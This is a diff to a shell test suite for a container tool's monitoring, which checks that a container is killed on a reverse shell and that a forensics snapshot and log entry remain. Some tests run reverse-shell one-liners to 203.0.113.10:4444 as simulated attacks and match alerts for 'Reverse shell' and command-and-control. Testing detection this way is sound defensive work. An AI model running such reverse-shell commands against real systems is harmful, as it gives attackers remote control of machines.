@@ -152,6 +152,10 @@ attack() { # NAME
 	within 10 not_running "$1"
 }
 
+kept() { # NAME: it is stopped, and its snapshot is there
+	coi snapshot list -c "$1" --format json | grep -q "forensics-.*"
+}
+
 cleaned() { # NAME: no supervisor of it is left
 	coi container list --format json | jq -e --arg n "$1" '.[] | select(.name == $n).status == "Stopped"'
 }
@@ -164,11 +168,13 @@ cleaned() { # NAME: no supervisor of it is left
 		inside f1 bash -c 'echo loot >/root/loot'
 		attack f1
 		within 10 cleaned f1
-		coi snapshot list -c f1 --format json | grep -q forensics-
+		within 10 kept f1
 		[ "$i" = 4 ] || coi container start f1
 	done
-	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep -c '^forensics-')
-	[ "$names" = 3 ]
+	told() { [ "$(grep -c "its files as snapshot 'forensics-" "$HOME/.coi/logs/f1.session.log")" = 4 ]; }
+	within 10 told
+	three() { [ "$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep -c '^forensics-')" = 3 ]; }
+	within 10 three
 	coi logs f1 | grep "its files as snapshot 'forensics-"
 	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: [A-Z]'
 	has "$A/f1.jsonl" '.type == "snapshot.create" and (.snapshot | startswith("forensics-"))'
@@ -189,7 +195,7 @@ cleaned() { # NAME: no supervisor of it is left
 	name=$(container_name)
 	coi run -- bash -c 'echo loot >/tmp/loot; echo "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60" >/tmp/x; x=$(cat /tmp/x); bash -c "$x"' 3>&- >"$T/out" 2>&1 || true
 	within 10 cleaned "$name"
-	coi snapshot list -c "$name" --format json | grep -q forensics-
+	within 10 kept "$name"
 	coi diff "$name" | grep -q /tmp/loot
 	# The next one of the workspace is another one.
 	[ "$(coi run -- hostname 2>/dev/null)" != "$name" ]
@@ -199,7 +205,6 @@ cleaned() { # NAME: no supervisor of it is left
 	done
 	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
 	# Three there are before the oldest has gone, too.
-	within 20 not coi container exists "$name"
 	within 10 three
 	coi clean --force
 	[ "$(coi container list --format json | jq 'length')" = 0 ]
@@ -210,6 +215,8 @@ cleaned() { # NAME: no supervisor of it is left
 	settings
 	local for_what="Reverse shell|Port of command and control"
 	local name
+	make_workspace "$T/killed" # nobody else was killed in it
+	cd "$T/killed"
 	name=$(container_name)
 	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >"$T/out" 2>&1 || true
 	grep -Eq "Warning: container .$name.: monitoring killed it at 20.*: ($for_what)" "$T/out"
